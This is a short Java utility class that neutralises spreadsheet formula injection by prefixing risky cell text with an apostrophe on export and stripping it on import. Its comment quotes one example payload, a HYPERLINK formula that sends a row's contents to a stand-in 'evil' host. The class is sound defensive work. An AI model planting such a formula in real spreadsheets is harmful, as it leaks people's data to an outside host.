package cn.zhuanban.shared.files;

/**
 * Formula injection (OWASP "CSV injection"): a text cell that starts with {@code = + - @}, a tab or a carriage return
 * becomes a live formula as soon as someone edits it in Excel or saves the sheet as CSV and opens it again
 * ({@code =HYPERLINK("http://evil/?"&A1,"x")} in an enterprise's description sends the row away). Exports write such
 * text with a leading apostrophe; imports take it off again, so that an exported ledger imports unchanged. Numbers are
 * numeric cells and never pass here: a negative amount stays a number.
 */
public final class SpreadsheetText {

    private SpreadsheetText() {}

    /** {@code text} as a cell may hold it: with an apostrophe in front when it would start a formula. */
    public static String neutralised(String text) {
        return startsFormula(text, 0) ? "'" + text : text;
    }

    /** An imported cell's text without the apostrophe {@link #neutralised} put in front. */
    public static String restored(String text) {
        return text.length() > 1 && text.charAt(0) == '\'' && startsFormula(text, 1) ? text.substring(1) : text;
    }

    private static boolean startsFormula(String text, int at) {
        if (text == null || text.length() <= at) {
            return false;
        }
        char first = text.charAt(at);
        return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
    }
}
